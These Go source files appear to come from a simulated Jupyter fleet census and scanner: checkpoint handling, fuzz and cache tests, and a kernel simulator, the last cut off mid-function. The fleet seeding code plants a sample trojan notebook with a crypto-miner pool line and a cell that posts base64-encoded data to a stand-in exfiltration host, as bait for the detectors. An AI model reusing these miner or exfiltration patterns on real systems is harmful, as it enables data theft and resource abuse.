	f.Add([]byte(`{"fleet_checkpoint":99}` + "\n"))                                 // future version
	f.Add([]byte(`{"target_id":""}` + "\n"))                                        // missing id
	f.Add([]byte("\n\nnot json\n"))
	f.Add([]byte(`[{"target_id":1e309}]`))

	f.Fuzz(func(t *testing.T, data []byte) {
		path := filepath.Join(t.TempDir(), "fuzz.ckpt")
		if err := os.WriteFile(path, data, 0o644); err != nil {
			t.Skip()
		}
		got, err := LoadCheckpoint(path)
		if err != nil {
			return
		}
		if got == nil {
			t.Fatal("nil map without error")
		}
		// Replay the line discipline independently: every non-final,
		// non-header line that parses as a Result with a target_id
		// must have made it into the map (later duplicates win, so
		// presence — not equality — is the invariant).
		lines := bytes.Split(data, []byte{'\n'})
		for i, line := range lines {
			line = bytes.TrimSpace(line)
			if len(line) == 0 || i == len(lines)-1 {
				continue
			}
			if i == 0 {
				var h checkpointHeader
				if json.Unmarshal(line, &h) == nil && h.Version > 0 {
					continue
				}
			}
			var r Result
			if json.Unmarshal(line, &r) != nil || r.TargetID == "" {
				continue
			}
			if _, ok := got[r.TargetID]; !ok {
				t.Fatalf("record %q on line %d silently dropped", r.TargetID, i+1)
			}
		}
	})
}
