package fleet

import (
	"fmt"

	"repro/internal/server"
)

// Target is one scannable fleet member: the address a probe reaches
// it at plus the knobs that shaped it (kept so the static posture
// audit and a checkpoint-resumed sweep are self-contained).
type Target struct {
	ID     string `json:"id"`
	Preset string `json:"preset"`
	Addr   string `json:"addr"`
	Knobs  Knobs  `json:"knobs"`
}

// Fleet is a set of running in-process simulated servers.
type Fleet struct {
	servers []*server.Server
	targets []Target
}

// Spawn starts one loopback server per preset, each on an ephemeral
// port. On any listen failure the already-started members are closed
// and the error returned.
func Spawn(presets []Preset) (*Fleet, error) {
	f := &Fleet{}
	for _, p := range presets {
		cfg := p.Knobs.Config()
		cfg.Port = 0
		srv := server.NewServer(cfg)
		addr, err := srv.Start()
		if err != nil {
			f.Close()
			return nil, fmt.Errorf("fleet: spawn %s: %w", p.ID, err)
		}
		f.servers = append(f.servers, srv)
		f.targets = append(f.targets, Target{
			ID: p.ID, Preset: p.Name, Addr: addr, Knobs: p.Knobs,
		})
	}
	return f, nil
}

// Targets returns the scannable members in spawn order.
func (f *Fleet) Targets() []Target {
	out := make([]Target, len(f.targets))
	copy(out, f.targets)
	return out
}

// Size returns the number of running members.
func (f *Fleet) Size() int { return len(f.servers) }

// Close stops every member.
func (f *Fleet) Close() error {
	var first error
	for _, s := range f.servers {
		if err := s.Close(); err != nil && first == nil {
			first = err
		}
	}
	return first
}
