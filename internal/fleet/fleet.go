package fleet

import (
	"fmt"

	"repro/internal/nbformat"
	"repro/internal/server"
	"repro/internal/vfs"

	// The default scanner suites self-register with the scan registry;
	// importing them here means every fleet sweep can resolve the full
	// --suites set without callers wiring anything.
	_ "repro/internal/cryptoaudit"
	_ "repro/internal/misconfig"
	_ "repro/internal/nbscan"
	_ "repro/internal/threatintel"
)

// Target is one scannable fleet member: the address a probe reaches
// it at plus the knobs that shaped it (kept so the static posture
// audit and a checkpoint-resumed sweep are self-contained).
type Target struct {
	ID     string `json:"id"`
	Preset string `json:"preset"`
	Addr   string `json:"addr"`
	Knobs  Knobs  `json:"knobs"`

	// fs is the in-process member's content filesystem, handed to
	// deep-scan suites. Nil for targets reconstructed from JSON.
	fs *vfs.FS
}

// Fleet is a set of running in-process simulated servers.
type Fleet struct {
	servers []*server.Server
	targets []Target
}

// Spawn starts one loopback server per preset, each on an ephemeral
// port, and seeds its content filesystem from the preset (exposed
// members carry the trojan notebooks a real census would find). On
// any listen failure the already-started members are closed and the
// error returned.
func Spawn(presets []Preset) (*Fleet, error) {
	f := &Fleet{}
	for _, p := range presets {
		cfg := p.Knobs.Config()
		cfg.Port = 0
		// Seeding happens below, outside the contents API; upload-time
		// scanning is the server's own concern, not the census's.
		cfg.ScanNotebooks = false
		srv := server.NewServer(cfg)
		addr, err := srv.Start()
		if err != nil {
			f.Close()
			return nil, fmt.Errorf("fleet: spawn %s: %w", p.ID, err)
		}
		if err := seedContent(srv.FS, p.Knobs); err != nil {
			f.Close()
			return nil, fmt.Errorf("fleet: seed %s: %w", p.ID, err)
		}
		f.servers = append(f.servers, srv)
		f.targets = append(f.targets, Target{
			ID: p.ID, Preset: p.Name, Addr: addr, Knobs: p.Knobs, fs: srv.FS,
		})
	}
	return f, nil
}

// seedContent populates a member's filesystem deterministically from
// its knobs: every server holds ordinary analyst work, and members
// whose auth is open additionally carry the attack-shaped notebooks
// the paper's census found resident on exposed instances — giving the
// deep-scan suites something truthful to detect.
func seedContent(fs *vfs.FS, k Knobs) error {
	benign := nbformat.New()
	benign.AppendMarkdown("intro", "# Daily analysis")
	benign.AppendCode("load", `data = read_file("data/train.csv")`+"\n"+`print(len(data))`)
	if err := writeNotebook(fs, "notebooks/analysis.ipynb", benign); err != nil {
		return err
	}
	if err := fs.Write("data/train.csv", "seed", []byte("a,b\n1,2\n")); err != nil {
		return err
	}
	if !k.NoAuth {
		return nil
	}
	trojan := nbformat.New()
	trojan.AppendCode("miner", `pool = "stratum+tcp://pool.evil:3333 xmrig"`)
	trojan.AppendCode("exfil", `payload = b64encode(read_file("data/train.csv"))`+"\n"+
		`http_post("http://exfil.example/drop", payload)`)
	return writeNotebook(fs, "notebooks/gpu_tuning.ipynb", trojan)
}

func writeNotebook(fs *vfs.FS, path string, nb *nbformat.Notebook) error {
	data, err := nb.Marshal()
	if err != nil {
		return err
	}
	return fs.Write(path, "seed", data)
}

// Targets returns the scannable members in spawn order.
func (f *Fleet) Targets() []Target {
	out := make([]Target, len(f.targets))
	copy(out, f.targets)
	return out
}

// Size returns the number of running members.
func (f *Fleet) Size() int { return len(f.servers) }

// Close stops every member.
func (f *Fleet) Close() error {
	var first error
	for _, s := range f.servers {
		if err := s.Close(); err != nil && first == nil {
			first = err
		}
	}
	return first
}
