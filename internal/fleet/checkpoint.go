package fleet

import (
	"bufio"
	"bytes"
	"encoding/json"
	"fmt"
	"os"
)

// Checkpoint format: one JSON Result per line, appended as targets
// complete. A sweep killed mid-write leaves at most one torn trailing
// line, which LoadCheckpoint tolerates; corruption anywhere else is
// an error, not silent data loss.

// LoadCheckpoint reads the results recorded in a checkpoint file. A
// missing file is an empty checkpoint. Later records win when a
// target appears twice (a resumed sweep re-appends nothing, but a
// crashed one may).
func LoadCheckpoint(path string) (map[string]Result, error) {
	data, err := os.ReadFile(path)
	if os.IsNotExist(err) {
		return map[string]Result{}, nil
	}
	if err != nil {
		return nil, fmt.Errorf("fleet: checkpoint: %w", err)
	}
	out := map[string]Result{}
	lines := bytes.Split(data, []byte{'\n'})
	for i, line := range lines {
		line = bytes.TrimSpace(line)
		if len(line) == 0 {
			continue
		}
		var r Result
		if err := json.Unmarshal(line, &r); err != nil {
			if i == len(lines)-1 {
				// Torn final line from an interrupted append; the
				// target will simply be rescanned.
				break
			}
			return nil, fmt.Errorf("fleet: checkpoint %s line %d: %w", path, i+1, err)
		}
		if r.TargetID == "" {
			return nil, fmt.Errorf("fleet: checkpoint %s line %d: missing target_id", path, i+1)
		}
		out[r.TargetID] = r
	}
	return out, nil
}

// checkpointWriter appends results to the checkpoint file, flushing
// per record so progress survives a kill.
type checkpointWriter struct {
	f  *os.File
	bw *bufio.Writer
}

func openCheckpoint(path string) (*checkpointWriter, error) {
	f, err := os.OpenFile(path, os.O_APPEND|os.O_CREATE|os.O_WRONLY, 0o644)
	if err != nil {
		return nil, fmt.Errorf("fleet: checkpoint: %w", err)
	}
	return &checkpointWriter{f: f, bw: bufio.NewWriter(f)}, nil
}

func (w *checkpointWriter) Append(r Result) error {
	line, err := json.Marshal(r)
	if err != nil {
		return fmt.Errorf("fleet: checkpoint append: %w", err)
	}
	line = append(line, '\n')
	if _, err := w.bw.Write(line); err != nil {
		return fmt.Errorf("fleet: checkpoint append: %w", err)
	}
	return w.bw.Flush()
}

func (w *checkpointWriter) Close() error {
	if err := w.bw.Flush(); err != nil {
		w.f.Close()
		return err
	}
	return w.f.Close()
}
