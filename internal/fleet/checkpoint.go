package fleet

import (
	"bufio"
	"bytes"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"os"
	"sort"
)

// Checkpoint format v2: a header line {"fleet_checkpoint":2,
// "fleet_sig":"...","suites":[...]} followed by one JSON Result per
// line, appended as targets complete. Legacy (v1) files have no
// header and carry pre-suite Result JSON; LoadCheckpoint reads them
// by defaulting every record to the misconfig suite. A sweep killed
// mid-write leaves at most one torn trailing line, which
// LoadCheckpoint tolerates; corruption anywhere else is an error, not
// silent data loss.

// CheckpointVersion is the schema version this binary writes. A
// checkpoint declaring a newer version is rejected rather than
// misread.
const CheckpointVersion = 2

// checkpointHeader is the first line of a v2+ checkpoint.
type checkpointHeader struct {
	Version   int      `json:"fleet_checkpoint"`
	Signature string   `json:"fleet_sig,omitempty"`
	Suites    []string `json:"suites,omitempty"`
}

// FleetSignature fingerprints a target set independent of ephemeral
// addresses and sweep order: the hash covers each member's ID,
// preset, and knobs. A checkpoint records it so a resume against a
// different fleet (another seed or size) fails loudly instead of
// silently folding foreign results into the census.
func FleetSignature(targets []Target) string {
	ids := make([]string, 0, len(targets))
	byID := map[string]Target{}
	for _, t := range targets {
		if _, dup := byID[t.ID]; dup {
			continue
		}
		byID[t.ID] = t
		ids = append(ids, t.ID)
	}
	sort.Strings(ids)
	h := sha256.New()
	for _, id := range ids {
		t := byID[id]
		knobs, _ := json.Marshal(t.Knobs)
		fmt.Fprintf(h, "%s|%s|%s\n", t.ID, t.Preset, knobs)
	}
	return hex.EncodeToString(h.Sum(nil)[:8])
}

// LoadCheckpoint reads the results recorded in a checkpoint file. A
// missing file is an empty checkpoint. Later records win when a
// target appears twice (a resumed sweep re-appends nothing, but a
// crashed one may). Legacy headerless files load with every record
// normalized to the misconfig suite.
func LoadCheckpoint(path string) (map[string]Result, error) {
	out, _, err := loadCheckpoint(path)
	return out, err
}

// loadCheckpoint is LoadCheckpoint plus the parsed header (zero
// header for legacy files), which Scan checks against the current
// fleet signature and suite set.
func loadCheckpoint(path string) (map[string]Result, checkpointHeader, error) {
	var hdr checkpointHeader
	data, err := os.ReadFile(path)
	if os.IsNotExist(err) {
		return map[string]Result{}, hdr, nil
	}
	if err != nil {
		return nil, hdr, fmt.Errorf("fleet: checkpoint: %w", err)
	}
	out := map[string]Result{}
	lines := bytes.Split(data, []byte{'\n'})
	for i, line := range lines {
		line = bytes.TrimSpace(line)
		if len(line) == 0 {
			continue
		}
		if i == 0 {
			// Only the first line may be a header; a legacy file's
			// first line is a Result and carries no version key.
			var h checkpointHeader
			if err := json.Unmarshal(line, &h); err == nil && h.Version > 0 {
				if h.Version > CheckpointVersion {
					return nil, hdr, fmt.Errorf(
						"fleet: checkpoint %s is schema v%d but this binary reads up to v%d; upgrade or start a fresh checkpoint",
						path, h.Version, CheckpointVersion)
				}
				hdr = h
				continue
			}
		}
		var r Result
		if err := json.Unmarshal(line, &r); err != nil {
			if i == len(lines)-1 {
				// Torn final line from an interrupted append; the
				// target will simply be rescanned.
				break
			}
			return nil, hdr, fmt.Errorf("fleet: checkpoint %s line %d: %w", path, i+1, err)
		}
		if r.TargetID == "" {
			return nil, hdr, fmt.Errorf("fleet: checkpoint %s line %d: missing target_id", path, i+1)
		}
		normalizeLegacyResult(&r)
		out[r.TargetID] = r
	}
	return out, hdr, nil
}

// normalizeLegacyResult upgrades a pre-suite (v1) record in place:
// records written before the unified Finding carried only misconfig
// findings and no suite list.
func normalizeLegacyResult(r *Result) {
	if len(r.Suites) == 0 {
		r.Suites = []string{"misconfig"}
	}
	for i := range r.Findings {
		if r.Findings[i].Suite == "" {
			r.Findings[i].Suite = "misconfig"
		}
	}
}

// checkpointWriter appends results to the checkpoint file, flushing
// per record so progress survives a kill.
type checkpointWriter struct {
	f  *os.File
	bw *bufio.Writer
}

// openCheckpoint opens the checkpoint for appending, stamping the
// header on a fresh (or empty) file. An existing legacy file keeps
// its headerless format; its provenance was already validated by the
// loader's per-target checks.
func openCheckpoint(path string, hdr checkpointHeader) (*checkpointWriter, error) {
	f, err := os.OpenFile(path, os.O_APPEND|os.O_CREATE|os.O_WRONLY, 0o644)
	if err != nil {
		return nil, fmt.Errorf("fleet: checkpoint: %w", err)
	}
	w := &checkpointWriter{f: f, bw: bufio.NewWriter(f)}
	if st, err := f.Stat(); err == nil && st.Size() == 0 {
		line, err := json.Marshal(hdr)
		if err == nil {
			line = append(line, '\n')
			_, err = w.bw.Write(line)
		}
		if err == nil {
			err = w.bw.Flush()
		}
		if err != nil {
			f.Close()
			return nil, fmt.Errorf("fleet: checkpoint header: %w", err)
		}
	}
	return w, nil
}

func (w *checkpointWriter) Append(r Result) error {
	line, err := json.Marshal(r)
	if err != nil {
		return fmt.Errorf("fleet: checkpoint append: %w", err)
	}
	line = append(line, '\n')
	if _, err := w.bw.Write(line); err != nil {
		return fmt.Errorf("fleet: checkpoint append: %w", err)
	}
	return w.bw.Flush()
}

func (w *checkpointWriter) Close() error {
	if err := w.bw.Flush(); err != nil {
		w.f.Close()
		return err
	}
	return w.f.Close()
}
