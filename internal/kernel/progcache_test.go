package kernel

import (
	"fmt"
	"testing"

	"repro/internal/kernel/minilang"
)

// TestProgCacheHitMissCounters pins the cache contract end to end
// through Kernel.Execute: first execution of a source misses, every
// repeat hits, and the counters land in both the kernel Usage and the
// manager-wide stats.
func TestProgCacheHitMissCounters(t *testing.T) {
	m, _, _, _ := newManager(t)
	k := m.Start("minilang", "alice")
	for i := 0; i < 5; i++ {
		if _, err := k.Execute("x = 1 + 2\nprint(x)", nil); err != nil {
			t.Fatal(err)
		}
	}
	if _, err := k.Execute("y = 9", nil); err != nil {
		t.Fatal(err)
	}
	u := k.Usage()
	if u.ProgCacheMisses != 2 || u.ProgCacheHits != 4 {
		t.Fatalf("usage hits/misses = %d/%d, want 4/2", u.ProgCacheHits, u.ProgCacheMisses)
	}
	hits, misses, resident := m.ProgCacheStats()
	if hits != 4 || misses != 2 || resident != 2 {
		t.Fatalf("manager stats = %d/%d/%d, want 4/2/2", hits, misses, resident)
	}
}

// TestProgCacheSharedAcrossKernels: the cache is manager-wide, so a
// second kernel executing the same source hits immediately — the
// fleet-census pattern (same probe cell against many kernels).
func TestProgCacheSharedAcrossKernels(t *testing.T) {
	m, _, _, _ := newManager(t)
	k1 := m.Start("minilang", "alice")
	k2 := m.Start("minilang", "bob")
	if _, err := k1.Execute("a = 40 + 2", nil); err != nil {
		t.Fatal(err)
	}
	if _, err := k2.Execute("a = 40 + 2", nil); err != nil {
		t.Fatal(err)
	}
	if u := k2.Usage(); u.ProgCacheHits != 1 || u.ProgCacheMisses != 0 {
		t.Fatalf("second kernel hits/misses = %d/%d, want 1/0", u.ProgCacheHits, u.ProgCacheMisses)
	}
}

// TestProgCacheSyntaxErrorNotCached: a failed parse is surfaced as
// the usual SyntaxError execution result and is not cached, so the
// cache never replays stale failures and never holds nil programs.
func TestProgCacheSyntaxErrorNotCached(t *testing.T) {
	m, _, _, _ := newManager(t)
	k := m.Start("minilang", "alice")
	for i := 0; i < 2; i++ {
		res, err := k.Execute("x = = 1", nil)
		if err != nil {
			t.Fatal(err)
		}
		if res.Status != "error" || res.EName != "SyntaxError" {
			t.Fatalf("run %d: status=%s ename=%s, want SyntaxError", i, res.Status, res.EName)
		}
	}
	if _, _, resident := m.ProgCacheStats(); resident != 0 {
		t.Fatalf("resident = %d after syntax errors, want 0", resident)
	}
}

// TestProgCacheLRUEviction: the bound holds and the oldest entry is
// the one evicted.
func TestProgCacheLRUEviction(t *testing.T) {
	c := newProgCache(3)
	srcs := []string{"a = 1", "b = 2", "c = 3"}
	for _, s := range srcs {
		if _, hit, err := c.program(s); err != nil || hit {
			t.Fatalf("prime %q: hit=%v err=%v", s, hit, err)
		}
	}
	// Touch "a = 1" so "b = 2" becomes the LRU victim.
	if _, hit, _ := c.program("a = 1"); !hit {
		t.Fatal("expected hit on resident program")
	}
	if _, hit, err := c.program("d = 4"); err != nil || hit {
		t.Fatalf("insert d: hit=%v err=%v", hit, err)
	}
	if c.len() != 3 {
		t.Fatalf("len = %d, want 3", c.len())
	}
	if _, hit, _ := c.program("b = 2"); hit {
		t.Fatal("LRU victim b = 2 still resident")
	}
	if _, hit, _ := c.program("a = 1"); !hit {
		t.Fatal("recently used a = 1 was evicted")
	}
}

// TestProgCacheDisabled: a negative size knob turns the cache off and
// Execute falls back to per-execution parsing, counters untouched.
func TestProgCacheDisabled(t *testing.T) {
	clockM, _, _, _ := newManager(t)
	_ = clockM
	m := NewManager(Config{ProgramCacheSize: -1})
	k := m.Start("minilang", "alice")
	for i := 0; i < 3; i++ {
		if _, err := k.Execute("x = 1", nil); err != nil {
			t.Fatal(err)
		}
	}
	u := k.Usage()
	if u.ProgCacheHits != 0 || u.ProgCacheMisses != 0 {
		t.Fatalf("disabled cache counted %d/%d", u.ProgCacheHits, u.ProgCacheMisses)
	}
	if h, ms, r := m.ProgCacheStats(); h != 0 || ms != 0 || r != 0 {
		t.Fatalf("disabled cache stats = %d/%d/%d", h, ms, r)
	}
}

// TestProgCacheIdenticalOutput: cached executions produce output
// identical to an uncached engine run, across both engines — the
// transparency claim, anchored to the same Parse+RunProgram identity
// FuzzVMMatchesInterp exercises.
func TestProgCacheIdenticalOutput(t *testing.T) {
	src := "total = 0\nfor i in range(10)\n    total = total + i\nend\nprint(total)"
	for _, engine := range []string{minilang.EngineVM, minilang.EngineTree} {
		m := NewManager(Config{Engine: engine})
		k := m.Start("minilang", "alice")
		var outs []string
		for i := 0; i < 3; i++ {
			res, err := k.Execute(src, nil)
			if err != nil {
				t.Fatal(err)
			}
			outs = append(outs, res.Stdout)
		}
		ref := minilang.NewEngine(engine, nil, minilang.Limits{})
		if err := ref.Run(src); err != nil {
			t.Fatal(err)
		}
		want := ref.TakeStdout()
		for i, got := range outs {
			if got != want {
				t.Fatalf("engine=%s run %d: stdout %q, want %q", engine, i, got, want)
			}
		}
	}
}

// TestProgCacheConcurrentExecute hammers one manager from several
// kernels under -race: the shared cache and the per-kernel engines
// must stay coherent.
func TestProgCacheConcurrentExecute(t *testing.T) {
	m, _, _, _ := newManager(t)
	done := make(chan error, 8)
	for g := 0; g < 8; g++ {
		k := m.Start("minilang", fmt.Sprintf("user%d", g))
		go func(k *Kernel, g int) {
			for i := 0; i < 50; i++ {
				src := fmt.Sprintf("v = %d + %d\n", g, i%5)
				if _, err := k.Execute(src, nil); err != nil {
					done <- err
					return
				}
			}
			done <- nil
		}(k, g)
	}
	for g := 0; g < 8; g++ {
		if err := <-done; err != nil {
			t.Fatal(err)
		}
	}
	hits, misses, _ := m.ProgCacheStats()
	if hits+misses != 400 {
		t.Fatalf("hits %d + misses %d != 400 executions", hits, misses)
	}
	if misses > 45 { // 8 goroutines × 5 distinct sources, plus benign races
		t.Fatalf("misses = %d, cache not engaging", misses)
	}
}
