// Package kernel implements the simulated Jupyter kernel and kernel
// manager: a REPL that executes minilang cell sources and speaks the
// Jupyter messaging protocol (execute_request/reply, iopub streams and
// status, interrupt/shutdown), with per-execution resource accounting.
//
// This is the substrate for the paper's Fig. 2 (the two-process model)
// and the attachment point for the kernel auditing tool the paper
// proposes: hosts can be wrapped to trace every file, network, and
// shell operation a cell performs.
package kernel

import (
	"errors"
	"fmt"
	"strings"
	"sync"
	"time"

	"repro/internal/jmsg"
	"repro/internal/kernel/minilang"
	"repro/internal/trace"
	"repro/internal/vfs"
)

// Execution states reported on the iopub status channel.
const (
	StateStarting = "starting"
	StateIdle     = "idle"
	StateBusy     = "busy"
	StateDead     = "dead"
)

// Errors.
var (
	ErrNoKernel   = errors.New("kernel: no such kernel")
	ErrKernelDead = errors.New("kernel: kernel is dead")
)

// Gateway is the kernel's simulated outbound network. Implementations
// route requests to registered in-process endpoints; there is no real
// network egress anywhere in the simulator.
type Gateway interface {
	Request(method, url string, body []byte) (status int, resp []byte, err error)
}

// GatewayFunc adapts a function to Gateway.
type GatewayFunc func(method, url string, body []byte) (int, []byte, error)

// Request calls f.
func (f GatewayFunc) Request(method, url string, body []byte) (int, []byte, error) {
	return f(method, url, body)
}

// DenyAllGateway refuses every request, the hardened egress posture.
var DenyAllGateway Gateway = GatewayFunc(func(method, url string, _ []byte) (int, []byte, error) {
	return 0, nil, fmt.Errorf("kernel: egress denied: %s %s", method, url)
})

// HostWrapper decorates the minilang Host — the kernel auditing tool's
// insertion point. It receives the kernel id and user for attribution.
type HostWrapper func(kernelID, user string, inner minilang.Host) minilang.Host

// Config configures a kernel manager.
type Config struct {
	FS          *vfs.FS
	Gateway     Gateway
	Clock       trace.Clock
	Sink        trace.Sink
	Limits      minilang.Limits
	Hostname    string
	Env         map[string]string
	HostWrapper HostWrapper
	// ExecHook is invoked at the start of every execution, before any
	// host operations — the audit log uses it to open an attribution
	// scope so file/net records chain to the right execution.
	ExecHook func(kernelID, user, code string)
	// ShellEnabled permits the shell() builtin (terminal escape). The
	// hardened configuration disables it.
	ShellEnabled bool
	// ConnectionKey signs kernel wire messages; empty disables signing.
	ConnectionKey string
	// Engine selects the minilang execution engine: minilang.EngineVM
	// (the default) or minilang.EngineTree, the reference interpreter
	// the VM is differentially tested against. Both are observably
	// equivalent; tree exists as the oracle and as a fallback knob.
	Engine string
	// ProgramCacheSize bounds the manager-wide compiled-program cache
	// (parsed cell sources shared across kernels, LRU-evicted). 0
	// means the default capacity; negative disables the cache so
	// every execution re-parses — the diagnostic escape hatch.
	ProgramCacheSize int
}

func (c Config) withDefaults() Config {
	if c.Clock == nil {
		c.Clock = trace.RealClock{}
	}
	if c.Sink == nil {
		c.Sink = trace.Discard
	}
	if c.Gateway == nil {
		c.Gateway = DenyAllGateway
	}
	if c.Hostname == "" {
		c.Hostname = "hpc-login-01"
	}
	if c.FS == nil {
		c.FS = vfs.New(vfs.WithClock(c.Clock))
	}
	if c.Engine == "" {
		c.Engine = minilang.EngineVM
	}
	return c
}

// fsHost binds the minilang Host interface to the virtual filesystem
// and the network gateway, emitting trace events for network and
// shell operations (file operations are emitted by the vfs itself).
type fsHost struct {
	cfg      Config
	kernelID string
	user     string
}

func (h *fsHost) ReadFile(path string) ([]byte, error) {
	return h.cfg.FS.Read(path, h.user)
}

func (h *fsHost) WriteFile(path string, data []byte) error {
	return h.cfg.FS.Write(path, h.user, data)
}

func (h *fsHost) DeleteFile(path string) error {
	return h.cfg.FS.Delete(path, h.user)
}

func (h *fsHost) RenameFile(oldPath, newPath string) error {
	return h.cfg.FS.Rename(oldPath, newPath, h.user)
}

func (h *fsHost) ListFiles(dir string) ([]string, error) {
	nodes, err := h.cfg.FS.Walk(dir)
	if err != nil {
		return nil, err
	}
	names := make([]string, len(nodes))
	for i, n := range nodes {
		names[i] = n.Path
	}
	return names, nil
}

func (h *fsHost) HTTPRequest(method, url string, body []byte) (int, []byte, error) {
	status, resp, err := h.cfg.Gateway.Request(method, url, body)
	h.cfg.Sink.Emit(trace.Event{
		Kind: trace.KindNetOp, Op: method, Target: url,
		Bytes: int64(len(body)), Entropy: vfs.Entropy(body),
		User: h.user, KernelID: h.kernelID,
		Success: err == nil, Status: status,
		Detail: errDetail(err),
	})
	return status, resp, err
}

func (h *fsHost) Shell(cmd string) (string, error) {
	if !h.cfg.ShellEnabled {
		h.cfg.Sink.Emit(trace.Event{
			Kind: trace.KindTermCmd, Op: "shell", Code: cmd,
			User: h.user, KernelID: h.kernelID, Success: false,
			Detail: "shell disabled by policy",
		})
		return "", errors.New("kernel: shell access disabled by policy")
	}
	out := simulateShell(cmd, h.cfg.Hostname)
	h.cfg.Sink.Emit(trace.Event{
		Kind: trace.KindTermCmd, Op: "shell", Code: cmd,
		User: h.user, KernelID: h.kernelID, Success: true,
	})
	return out, nil
}

func (h *fsHost) Spin(cpuMillis int64) {
	if fc, ok := h.cfg.Clock.(*trace.FakeClock); ok {
		fc.Advance(time.Duration(cpuMillis) * time.Millisecond)
	}
}

func (h *fsHost) Hostname() string { return h.cfg.Hostname }

func (h *fsHost) Env(name string) string { return h.cfg.Env[name] }

func errDetail(err error) string {
	if err == nil {
		return ""
	}
	return err.Error()
}

// simulateShell returns canned output for a few common commands, so
// attack payloads that probe the host look realistic in audit logs.
func simulateShell(cmd, hostname string) string {
	fields := strings.Fields(cmd)
	if len(fields) == 0 {
		return ""
	}
	switch fields[0] {
	case "hostname":
		return hostname + "\n"
	case "whoami":
		return "jovyan\n"
	case "uname":
		return "Linux " + hostname + " 5.14.0 x86_64 GNU/Linux\n"
	case "nproc":
		return "128\n"
	case "id":
		return "uid=1000(jovyan) gid=100(users) groups=100(users)\n"
	default:
		return "sh: " + fields[0] + ": simulated\n"
	}
}

// Kernel is one running kernel instance.
type Kernel struct {
	ID       string
	Name     string // kernel spec name
	ConnInfo jmsg.ConnectionInfo

	mu        sync.Mutex
	cfg       Config
	eng       minilang.Engine
	progs     *progCache // manager-shared; nil disables caching
	signer    *jmsg.Signer
	execCount int
	state     string
	msgSeq    int
	user      string
	started   time.Time
	lastUsed  time.Time

	// Cumulative resource usage across executions.
	usage Usage
}

// Usage summarizes kernel resource consumption.
type Usage struct {
	Executions   int
	CPUMillis    int64
	BytesRead    int64
	BytesWritten int64
	NetBytes     int64
	NetCalls     int
	ShellCalls   int
	// Program-cache effectiveness for this kernel's executions: a hit
	// means the cell source was already parsed (and, for the VM, its
	// bytecode already compiled by this kernel's engine after the
	// first run of that program).
	ProgCacheHits   int
	ProgCacheMisses int
}

// State returns the kernel execution state.
func (k *Kernel) State() string {
	k.mu.Lock()
	defer k.mu.Unlock()
	return k.state
}

// Usage returns a copy of cumulative resource usage.
func (k *Kernel) Usage() Usage {
	k.mu.Lock()
	defer k.mu.Unlock()
	return k.usage
}

// ExecutionCount returns the number of completed executions.
func (k *Kernel) ExecutionCount() int {
	k.mu.Lock()
	defer k.mu.Unlock()
	return k.execCount
}

// Signer returns the kernel's message signer.
func (k *Kernel) Signer() *jmsg.Signer { return k.signer }

func (k *Kernel) nextMsgID() string {
	k.msgSeq++
	return fmt.Sprintf("%s-msg-%d", k.ID, k.msgSeq)
}

// ExecResult is the outcome of one execution.
type ExecResult struct {
	Status         string // "ok" | "error"
	ExecutionCount int
	Stdout         string
	EName          string
	EValue         string
	// IOPub carries the exact message sequence a Jupyter front end
	// would see: status busy, execute_input, stream(s)/error,
	// status idle.
	IOPub []*jmsg.Message
	Reply *jmsg.Message
}

// Execute runs code as one cell execution, producing the Jupyter
// message flow of Fig. 2. parent is the triggering execute_request
// (may be nil for direct API use).
func (k *Kernel) Execute(code string, parent *jmsg.Message) (*ExecResult, error) {
	k.mu.Lock()
	defer k.mu.Unlock()
	if k.state == StateDead {
		return nil, ErrKernelDead
	}
	now := k.cfg.Clock.Now()
	k.lastUsed = now
	k.state = StateBusy

	res := &ExecResult{}
	user := k.user
	session := k.ID
	if parent != nil {
		if parent.Header.Username != "" {
			user = parent.Header.Username
		}
		session = parent.Header.Session
	}
	mk := func(msgType string, content any) *jmsg.Message {
		var m *jmsg.Message
		var err error
		if parent != nil {
			m, err = jmsg.Reply(parent, msgType, k.nextMsgID(), k.cfg.Clock.Now(), content)
		} else {
			m, err = jmsg.New(msgType, k.nextMsgID(), session, user, k.cfg.Clock.Now(), content)
		}
		if err != nil {
			panic("kernel: message construction: " + err.Error())
		}
		ch, _ := jmsg.ChannelFor(msgType)
		m.Channel = ch
		return m
	}

	res.IOPub = append(res.IOPub, mk(jmsg.TypeStatus, jmsg.StatusContent{ExecutionState: StateBusy}))
	res.IOPub = append(res.IOPub, mk(jmsg.TypeExecuteInput, map[string]any{
		"code": code, "execution_count": k.execCount + 1,
	}))

	if k.cfg.ExecHook != nil {
		k.cfg.ExecHook(k.ID, user, code)
	}
	before := k.eng.Counters()
	var runErr error
	if k.progs != nil {
		// Cache hit: the parse front end is skipped outright, and the
		// engine's per-program compiled form is reused on every run of
		// this program after the kernel's first. Parse failures come
		// back as the same SyntaxError Run would produce.
		prog, hit, perr := k.progs.program(code)
		if hit {
			k.usage.ProgCacheHits++
		} else {
			k.usage.ProgCacheMisses++
		}
		if perr != nil {
			runErr = perr
		} else {
			runErr = k.eng.RunProgram(prog)
		}
	} else {
		runErr = k.eng.Run(code)
	}
	after := k.eng.Counters()
	stdout := k.eng.TakeStdout()
	k.execCount++
	res.ExecutionCount = k.execCount
	res.Stdout = stdout

	if stdout != "" {
		res.IOPub = append(res.IOPub, mk(jmsg.TypeStream, jmsg.StreamContent{Name: "stdout", Text: stdout}))
	}

	delta := subCounters(after, before)
	k.usage.Executions++
	k.usage.CPUMillis += delta.CPUMillis
	k.usage.BytesRead += delta.BytesRead
	k.usage.BytesWritten += delta.BytesWritten
	k.usage.NetBytes += delta.NetBytes
	k.usage.NetCalls += delta.NetCalls
	k.usage.ShellCalls += delta.ShellCalls

	if runErr != nil {
		res.Status = "error"
		var rt *minilang.RuntimeError
		if errors.As(runErr, &rt) {
			res.EName, res.EValue = rt.EName, rt.Msg
		} else {
			var se *minilang.SyntaxError
			if errors.As(runErr, &se) {
				res.EName, res.EValue = "SyntaxError", se.Msg
			} else {
				res.EName, res.EValue = "Error", runErr.Error()
			}
		}
		res.IOPub = append(res.IOPub, mk(jmsg.TypeError, jmsg.ErrorContent{
			EName: res.EName, EValue: res.EValue,
			Traceback: []string{fmt.Sprintf("%s: %s", res.EName, res.EValue)},
		}))
	} else {
		res.Status = "ok"
	}

	res.IOPub = append(res.IOPub, mk(jmsg.TypeStatus, jmsg.StatusContent{ExecutionState: StateIdle}))
	res.Reply = mk(jmsg.TypeExecuteReply, jmsg.ExecuteReply{
		Status: res.Status, ExecutionCount: k.execCount,
		EName: res.EName, EValue: res.EValue,
	})
